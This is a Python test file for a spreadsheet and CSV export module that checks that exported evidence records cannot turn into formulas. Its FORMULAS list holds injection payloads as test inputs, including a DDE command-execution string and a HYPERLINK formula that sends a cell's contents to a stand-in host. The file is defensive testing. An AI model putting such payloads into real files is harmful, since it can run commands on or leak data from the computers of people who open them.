"""Spreadsheets out: nothing becomes a formula, nothing is lost unsaid."""

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from khronika.disclosure.audience import Audience
from khronika.evidence.readers.spreadsheets.sheet_strings import plain
from khronika.exchange.error import TableError
from khronika.exchange.tables.spreadsheet import LONGEST, csv_files, harmless, workbook
from khronika.exchange.tables.table_out import COLUMNS, rows
from khronika.exchange.tables.written import ExportLoss
from tests.disclosure.record_world import entity, material, named, planned, stated

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u202e=1+1",
    "\u200f\x00=1+1",
    "\uff1d1+1",
    "%0A=1",
    "|calc",
    "'=1+1",
    "#N/A",
]
texts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40)


def made(*details, label="INVENTED act"):
    rows = [("act", "detail", text) for text in details]
    return planned(material([entity("act", "Act", label)], [stated(1, *rows)]), Audience.COURT)


def csv_cells(plan, file="statements.csv"):
    return list(csv.reader(io.StringIO(csv_files(plan).files[file].decode(), newline="")))


def opened(plan):
    return openpyxl.load_workbook(io.BytesIO(workbook(plan).files["record.xlsx"]))


def test_a_sheet_for_the_statements_and_one_for_each_type():
    people = [entity("act", "Act", "beating"), entity("o", "Person", "Captain L.", names=["Лозняков"])]
    rows = [
        ("act", "victim", named("o")),
        ("act", "type", {"code": "beating"}),
        ("act", "type", "избиение ногами"),
        ("o", "rank", "captain"),
    ]
    plan = planned(material(people, [stated(1, *rows)]), Audience.COURT)
    assert opened(plan).sheetnames == ["statements", "Act", "Person"]
    assert set(csv_files(plan).files) == {"statements.csv", "Act.csv", "Person.csv"}
    head, act = csv_cells(plan, "Act.csv")
    assert dict(zip(head, act, strict=True)) | {"id": ""} == {
        "id": "",
        "label": "beating",
        "names": "",
        "type": "beating; избиение ногами",
        "victim": "Captain L.",
    }
    assert csv_cells(plan, "Person.csv")[1][1:] == ["Captain L.", "Лозняков", "captain"]


def test_what_is_denied_is_marked_in_the_sheet_of_its_type():
    plan = planned(
        material([entity("act", "Act", "a")], [stated(1, ("act", "detail", "X"), stance="denies")]),
        Audience.COURT,
    )
    assert csv_cells(plan, "Act.csv")[1][-1] == "not: X"


def test_numbers_are_numbers_and_truths_are_truths():
    plan = planned(
        material(
            [entity("act", "Act", "a")], [stated(1, ("act", "number_of_perpetrators", {"from": 4, "to": 5}))]
        ),
        Audience.COURT,
    )
    head, row = ([cell.value for cell in cells] for cells in opened(plan)["statements"].rows)
    told = dict(zip(head, row, strict=True))
    assert (told["low"], told["high"], told["value"], told["disagrees"]) == (4, 5, "4–5", False)
    assert tuple(head) == COLUMNS


def test_a_workbook_names_nobody_who_made_it():
    packed = workbook(made("INVENTED")).files["record.xlsx"]
    assert not [data for data in _members(packed) if b"creator" in data or b"modified" in data]
    assert {info.date_time for info in zipfile.ZipFile(io.BytesIO(packed)).infolist()} == {
        (1980, 1, 1, 0, 0, 0)
    }


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(text):
    packed = workbook(made(text, label=text)).files["record.xlsx"]
    cells = [
        cell
        for sheet in openpyxl.load_workbook(io.BytesIO(packed))
        for row in sheet.rows
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert cells
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(b"<f>" not in data for data in _members(packed))


def _members(packed):
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        return [archive.read(name) for name in archive.namelist()]


@pytest.mark.parametrize("text", [text for text in FORMULAS if text != "#N/A"])
def test_no_cell_of_a_csv_file_begins_like_a_formula(text):
    plan = made(text, label=text)
    for file in csv_files(plan).files:
        for row in csv_cells(plan, file)[1:]:
            assert not [cell for cell in row if cell.strip()[:1] in tuple("=+-@|%＝")], file
    value = csv_cells(plan)[1][COLUMNS.index("value")]
    assert value.startswith("'")


@given(text=texts)
def test_a_harmless_cell_gives_its_text_back(text):
    held = harmless(text)
    assert held[:1] not in tuple("=+-@|%＝＋－＠\t\r\n")
    assert held.removeprefix("'") == text


@given(text=texts)
def test_every_text_is_one_cell_in_both_and_says_the_same(text):
    plan = made(text)
    rows = csv_cells(plan)
    assert [len(row) for row in rows] == [len(COLUMNS)] * 2
    held = rows[1][COLUMNS.index("value")]
    seen = str([row[COLUMNS.index("value")].value for row in opened(plan)["statements"].rows][1] or "")
    assert (
        "".join(held.removeprefix("'").split()) == "".join(seen.removeprefix("'").split())
        or held[1:].split() == seen.split()
    )


def test_direction_marks_and_control_signs_are_taken_out_and_counted():
    written = csv_files(made("a\u202eb\x00c"))
    assert "abc" in written.files["statements.csv"].decode()
    assert written.losses == {ExportLoss.CONTROL: 2}


def test_a_text_too_long_for_a_cell_is_cut_and_counted_and_never_within_a_sign():
    text = "x" * (LONGEST - 1) + "𝔛" * 5
    plan = made(text)
    assert workbook(plan).losses == {ExportLoss.LONG: 2}
    assert [row[COLUMNS.index("value")].value for row in opened(plan)["statements"].rows][1] == "x" * (
        LONGEST - 1
    )
    assert text in csv_files(plan).files["statements.csv"].decode()


def test_an_export_of_nothing_is_a_table_without_rows():
    nothing = planned(
        material([entity("act", "Act", "a")], [stated(1, ("act", "detail", "X"))], accepted=False)
    )
    assert csv_cells(nothing) == [list(COLUMNS)]
    assert opened(nothing).sheetnames == ["statements"]


def test_a_workbook_of_more_rows_than_a_sheet_holds_is_refused(monkeypatch):
    monkeypatch.setattr("khronika.exchange.tables.workbook_out.MOST_ROWS", 2)
    with pytest.raises(TableError, match="more rows"):
        workbook(made("one", "two"))


def test_cells_of_a_workbook_stand_under_their_headings_beyond_the_26th_column():
    plan = made("INVENTED")
    head, row = ([cell.value for cell in cells] for cells in opened(plan)["statements"].rows)
    (written,) = rows(plan)
    assert len(head) > len("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    assert dict(zip(head, row, strict=True)) == {
        name: None if cell == "" else cell for name, cell in written._asdict().items()
    }


ESCAPES = ["_x0041_", "_x000D_", "_x005F_", "_x0041_x0042_", "a_x005f_b", "_x00410041_", "__x0041__"]


@pytest.mark.parametrize("text", ESCAPES)
def test_words_that_programs_read_as_an_escaped_sign_come_back_as_they_were(text):
    """Excel and LibreOffice decode them as our own reader does; openpyxl leaves them as they stand."""
    [written] = [row[0].value for row in opened(made(text))["Act"].iter_rows(min_row=2, min_col=4)]
    assert plain(written) == text
